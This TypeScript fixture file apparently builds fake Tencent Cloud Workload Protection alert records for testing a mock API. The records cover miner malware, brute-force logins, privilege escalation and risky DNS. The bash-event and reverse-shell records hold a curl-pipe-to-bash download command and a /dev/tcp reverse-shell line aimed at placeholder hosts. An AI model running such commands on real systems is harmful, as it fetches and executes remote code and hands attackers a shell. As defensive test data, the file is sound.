import type { Params } from './tencent-fake.js';

/**
 * CWP list items shaped as the published API examples (field names and types of the
 * DescribeMalWareList, DescribeBruteAttackList, DescribeHostLoginList, DescribeBashEvents,
 * DescribePrivilegeEvents, DescribeReverseShellEvents, DescribeRiskDnsList and DescribeVulList
 * outputs, API version 2018-02-28). `i` varies ids, times and hosts.
 */

/** Beijing time, as the API writes it: `2026-12-01 10:00:05`. */
export function bjTime(base: number, plusSeconds: number): string {
  return new Date(base + plusSeconds * 1000 + 8 * 3600_000).toISOString().slice(0, 19).replace('T', ' ');
}

const BASE = Date.parse('2026-12-01T02:00:00Z');

function extra(i: number): Params {
  return { WanIP: `203.0.113.${10 + (i % 5)}`, PrivateIP: `10.0.0.${10 + (i % 5)}`, NetworkType: 1, NetworkName: 'vpc-2u6xx1ak', InstanceID: `ins-0a1b2c${10 + (i % 5)}`, HostName: `web-0${i % 5}` };
}

export function malware(i: number, status = 4, level = 3): Params {
  return {
    HostIp: `10.0.0.${10 + (i % 5)}`,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    FilePath: `/tmp/.x/kdevtmpfsi${i}`,
    VirusName: 'Linux.Trojan.Miner.Kinsing',
    Status: status,
    Id: 1000 + i,
    Alias: `web-0${i % 5}`,
    Tags: ['矿池通信'],
    FileCreateTime: bjTime(BASE, i - 60),
    FileModifierTime: bjTime(BASE, i - 30),
    CreateTime: bjTime(BASE, i),
    LatestScanTime: bjTime(BASE, i + 5),
    Level: level,
    CheckPlatform: '1,2',
    ProcessExists: 1,
    FileExists: 1,
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    MD5: `8c2f0e6b6a1d4b5c9e7f3a2b1c0d9e8${i % 10}`,
    MachineExtraInfo: extra(i),
    DoClean: true,
    FirstDetectionMethod: 1,
  };
}

export function brute(i: number, status = 'FAILED', dataStatus = 0): Params {
  return {
    Id: 2000 + i,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    MachineIp: `10.0.0.${10 + (i % 5)}`,
    MachineName: `web-0${i % 5}`,
    UserName: 'root',
    SrcIp: `198.51.100.${i % 200}`,
    Status: status,
    Country: 0,
    City: 0,
    Province: 0,
    CreateTime: bjTime(BASE, i),
    BanStatus: 2,
    EventType: status === 'SUCCESS' ? 300 : 200,
    Count: 37 + i,
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    IsProVersion: true,
    Protocol: 'ssh',
    Port: 22,
    ModifyTime: bjTime(BASE, i + 60),
    InstanceId: `ins-0a1b2c${10 + (i % 5)}`,
    DataStatus: dataStatus,
    MachineExtraInfo: extra(i),
    Location: '荷兰',
    RiskLevel: 1,
    DataFrom: 0,
    AttackStatusDesc: status === 'SUCCESS' ? '破解成功' : '破解失败',
    BanExpiredTime: bjTime(BASE, i + 86400),
    IPAnalyse: { IsAsset: 0, IsIdc: 1, Type: 1 },
  };
}

export function login(i: number, status = 2): Params {
  return {
    Id: 3000 + i,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    MachineIp: `10.0.0.${10 + (i % 5)}`,
    MachineName: `web-0${i % 5}`,
    UserName: 'deploy',
    SrcIp: `192.0.2.${i % 200}`,
    Status: status,
    Country: 0,
    City: 0,
    Province: 0,
    LoginTime: bjTime(BASE, i),
    ModifyTime: bjTime(BASE, i),
    IsRiskArea: 1,
    IsRiskUser: 0,
    IsRiskTime: 0,
    IsRiskSrcIp: 0,
    RiskLevel: 0,
    Location: '美国',
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    Desc: 'ABROAD',
    MachineExtraInfo: extra(i),
    Port: 22,
    IPAnalyse: { IsAsset: 0, IsIdc: 0, Type: 0 },
  };
}

export function bash(i: number, status = 0): Params {
  return {
    Id: 4000 + i,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    Hostip: `10.0.0.${10 + (i % 5)}`,
    User: 'root',
    Platform: 1,
    BashCmd: `curl -fsSL http://198.51.100.7/x.sh | bash # ${i}`,
    RuleId: 17,
    RuleName: '下载执行恶意脚本',
    RuleLevel: 1,
    Status: status,
    CreateTime: bjTime(BASE, i),
    MachineName: `web-0${i % 5}`,
    DetectBy: 1,
    Pid: String(3000 + i),
    Exe: '/usr/bin/bash',
    ModifyTime: bjTime(BASE, i),
    RuleCategory: 0,
    RegexBashCmd: '',
    MachineExtraInfo: extra(i),
    HostName: `web-0${i % 5}`,
  };
}

export function privilege(i: number, status = 0): Params {
  return {
    Id: 5000 + i,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    Hostip: `10.0.0.${10 + (i % 5)}`,
    ProcessName: 'pkexec',
    FullPath: '/usr/bin/pkexec',
    CmdLine: 'pkexec /bin/sh',
    UserName: 'www-data',
    UserGroup: 'www-data',
    ProcFilePrivilege: '-rwsr-xr-x',
    ParentProcName: 'sh',
    ParentProcUser: 'www-data',
    ParentProcGroup: 'www-data',
    ParentProcPath: '/bin/sh',
    ProcTree: '{"name":"sh","children":[{"name":"pkexec"}]}',
    Status: status,
    CreateTime: bjTime(BASE, i),
    MachineName: `web-0${i % 5}`,
    MachineExtraInfo: extra(i),
    Pid: 4100 + i,
    Count: 1,
  };
}

export function reverseShell(i: number, status = 0): Params {
  return {
    Id: 6000 + i,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    Hostip: `10.0.0.${10 + (i % 5)}`,
    DstIp: '198.51.100.66',
    DstPort: 4444,
    ProcessName: 'bash',
    FullPath: '/usr/bin/bash',
    CmdLine: 'bash -i >& /dev/tcp/198.51.100.66/4444 0>&1',
    UserName: 'www-data',
    UserGroup: 'www-data',
    ParentProcName: 'php-fpm',
    ParentProcUser: 'www-data',
    ParentProcGroup: 'www-data',
    ParentProcPath: '/usr/sbin/php-fpm',
    Status: status,
    CreateTime: bjTime(BASE, i),
    MachineName: `web-0${i % 5}`,
    ProcTree: '',
    DetectBy: 0,
    MachineExtraInfo: extra(i),
    Pid: 4200 + i,
    RiskLevel: 1,
    CmdLineQuote: 'bash -i >& /dev/tcp/198\\.51\\.100\\.66/4444 0>&1',
  };
}

export function riskDns(i: number, status = 0): Params {
  return {
    Url: `pool${i}.minexmr.example`,
    AccessCount: 12,
    ProcessName: 'kdevtmpfsi',
    ProcessMd5: `8c2f0e6b6a1d4b5c9e7f3a2b1c0d9e8${i % 10}`,
    GlobalRuleId: 1,
    UserRuleId: 0,
    Status: status,
    CreateTime: bjTime(BASE, i),
    MergeTime: bjTime(BASE, i),
    Quuid: `b3a9f7c2-5e11-4a21-9c3b-1f9d8e7c6a5${i % 10}`,
    HostIp: `10.0.0.${10 + (i % 5)}`,
    Alias: `web-0${i % 5}`,
    Description: '矿池域名',
    Id: 7000 + i,
    Reference: '',
    CmdLine: '/tmp/kdevtmpfsi',
    Pid: 4300 + i,
    Uuid: `2b1ea3ae-0d6f-4d3e-8bd9-ba1a6d3b7f0${i % 10}`,
    SuggestScheme: '隔离进程',
    Tags: ['挖矿'],
    MachineWanIp: `203.0.113.${10 + (i % 5)}`,
    MachineStatus: 'ONLINE',
  };
}

export function vul(i: number, status = 0): Params {
  return {
    Ids: String(8000 + i),
    Name: 'OpenSSH 远程代码执行漏洞(CVE-2024-6387)',
    Status: status,
    VulId: 8000 + i,
    PublishTime: '2024-07-01 00:00:00',
    LastTime: bjTime(BASE, i),
    HostCount: 3,
    Level: 4,
    From: 0,
    Descript: 'regreSSHion',
    PublishTimeWisteria: '',
    NameWisteria: '',
    DescriptWisteria: '',
    StatusStr: '',
    CveId: 'CVE-2024-6387',
    CvssScore: 8.1,
    Labels: '远程利用',
    FixSwitch: 1,
    TaskId: 0,
    IsSupportDefense: 1,
    DefenseAttackCount: 0,
    FirstAppearTime: bjTime(BASE, i - 60),
    VulCategory: 4,
    AttackLevel: 4,
    FixNoNeedRestart: false,
    Method: 0,
    VulFixSwitch: 1,
    LatestFixTime: '',
    RaspOpenNodeCount: 0,
    RaspClosedNodeCount: 0,
  };
}

/** The list key and generator per CWP action, for wiring the fake. */
export const CWP_LISTS = {
  DescribeMalWareList: 'MalWareList',
  DescribeBruteAttackList: 'BruteAttackList',
  DescribeHostLoginList: 'HostLoginList',
  DescribeBashEvents: 'List',
  DescribePrivilegeEvents: 'List',
  DescribeReverseShellEvents: 'List',
  DescribeRiskDnsList: 'RiskDnsList',
  DescribeVulList: 'VulInfoList',
} as const;
